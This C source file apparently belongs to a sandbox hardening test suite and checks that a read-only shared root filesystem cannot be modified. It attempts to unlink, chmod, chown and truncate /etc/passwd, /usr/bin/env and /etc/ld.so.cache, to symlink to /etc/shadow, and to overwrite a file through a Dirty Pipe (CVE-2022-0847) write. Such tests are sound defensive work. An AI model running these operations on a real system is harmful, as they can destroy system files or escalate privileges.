/* SPDX-License-Identifier: MIT */
/*
 * wins: the next run's interpreter: any file of the shared root changed, by write, mode, owner, time, name, link or mapping
 * rule: 23 (read-only with all that is mounted below), 22
 * expect: ok
 * says: ^held unlink EROFS$
 * control: none: root's files are root's; that the mount holds without that is seen by EROFS
 * core: yes
 */
#include "attack.h"

#include <sys/time.h>

int main(void)
{
	static const char *const dirs[] = {"/", "/usr", "/usr/bin", "/usr/lib", "/etc", "/etc/alternatives", "/etc/ssl/certs", "/dev",
	        "/proc", "/proc/sys/kernel", "/bin", "/lib", "/proc/self"};
	char name[128];
	for (size_t i = 0; i < sizeof dirs / sizeof *dirs; i++) {
		snprintf(name, sizeof name, "%s/serapis-attack", dirs[i]);
		tried("create", open(name, O_CREAT | O_WRONLY, 0600));
		tried("mkdir", mkdir(name, 0700));
		tried("symlink", symlink("/etc/shadow", name));
		tried("link", link("/usr/bin/env", name));
		tried("fifo", mkfifo(name, 0600));
		tried("rename", rename("/usr/bin/env", name));
	}
	tried("open-usr", open("/usr/bin/env", O_WRONLY));
	tried("open-etc", open("/etc/passwd", O_RDWR));
	tried("open-null-exec", open("/dev/null", O_RDWR | O_CREAT | O_EXCL, 0700));
	tried("chmod", chmod("/usr/bin/env", 0777));
	tried("chown", chown("/etc/passwd", getuid(), getgid()));
	tried("chmod-dev", chmod("/dev/null", 0));
	tried("truncate", truncate("/etc/ld.so.cache", 0));
	tried("unlink", unlink("/etc/passwd"));
	tried("utimes", utimes("/usr/bin/env", NULL));
	tried("link-into-tmp", link("/etc/passwd", "/tmp/passwd"));
	int fd = open("/usr/bin/env", O_RDONLY);
	tried("map-shared-write", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
	/* what a private mapping writes stays private */
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0), now[4];
	memcpy(p, "PWND", 4);
	if (pread(fd, now, 4, 0) == 4 && memcmp(now, "PWND", 4) == 0) say("WON private-write-reached-the-file");
	/* Dirty Pipe (CVE-2022-0847): a page of the file in a pipe, and a write behind it */
	int pp[2];
	off_t at = 0;
	(void)!pipe(pp);
	for (int i = 0; i < 16; i++) (void)!write(pp[1], (char[4096]){0}, 4096);
	for (int i = 0; i < 16; i++) (void)!read(pp[0], (char[4096]){0}, 4096);
	if (splice(fd, &at, pp[1], NULL, 1, 0) == 1) (void)!write(pp[1], "WND", 3);
	if (pread(fd, now, 4, 0) == 4 && memcmp(now + 1, "WND", 3) == 0) say("WON dirty-pipe");
	return end();
}
